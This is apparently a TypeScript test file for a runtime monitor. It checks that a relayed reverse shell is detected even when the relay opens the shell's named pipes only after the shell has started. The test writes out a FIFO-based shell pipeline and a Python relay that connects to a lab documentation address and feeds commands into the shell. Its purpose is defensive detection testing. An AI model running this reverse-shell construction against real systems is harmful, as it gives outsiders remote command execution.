// Why: a relayed reverse shell whose relay opens the shell's FIFOs only after the shell started — `cat in | sh |
// cat >out` first, the relay beside it later (session 44). The exec-time walk of pipe-relays.ts finds nobody then,
// and the relay's connect looks only at the shell's parents; the session looks again at each resource sample while
// the shell waits. A runtime of its own, sampling every 200 ms. Lab only (SAFETY.md): the far host is a
// documentation address inside the lab, the name is under .test.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { startFixture, oneUnscreenedCall, rulesOf, type Fixture } from './helpers/lab-fixture.js';
import { DEMO_FAR_HOSTS } from '../src/cli/demo-scenario.js';

let fx: Fixture;
before(async () => { fx = await startFixture(DEMO_FAR_HOSTS, 'lablr', { resourceSampleMs: 200 }); });
after(async () => { await fx?.close(); });

// the relay connects, then (after the shell has started) opens the FIFOs, sends one command, waits and reads
const RELAY_PY = `import os, socket, time
s = socket.create_connection(("198.51.100.10", 80), timeout=3)
s.sendall(b"GET / HTTP/1.0\\r\\nHost: registry.test\\r\\n\\r\\n"); s.recv(4096)
time.sleep(0.5)
w = open("in", "wb", buffering=0)
r = open("out", "rb", buffering=0)
w.write(b"echo ran-$$\\n"); w.flush()
time.sleep(1.5)
w.close()
open("relay.out", "w").write("late " + r.read().decode().strip() + "\\n")`;

test('a shell on plain pipes whose relay opens its FIFOs after the shell started is a relayed shell, found at a later sample', async () => {
  const { r, alerts, s } = await oneUnscreenedCall(fx, `rm -f in out; mkfifo in out\ncat > relay.py <<'EOF'\n${RELAY_PY}\nEOF\n(cat in | tr a a | sh | cat >out) & python3 relay.py; wait; cat relay.out; echo done`, 'late-relay');
  assert.match(r.stdout, /late ran-\d+\ndone/);
  const shells = alerts.filter((a) => a.payload.category === 'reverse_shell');
  assert.ok(shells.some((a) => rulesOf(a).includes('network_fed_shell')), JSON.stringify(alerts.map((a) => [a.payload.category, rulesOf(a), a.payload.message])));
  assert.ok(shells.every((a) => a.tool_call === 'call-1'));
  const found = s.events.filter((e) => e.kind === 'socket' && e.payload.relay_found === true);
  assert.equal(found.length, 1, 'reported once');
  assert.match(String(found[0]!.payload.fed_by_net), /^198\.51\.100\.10:80$/);
  assert.match(shells[0]!.payload.message, /found once it held the shell's pipes/);
});
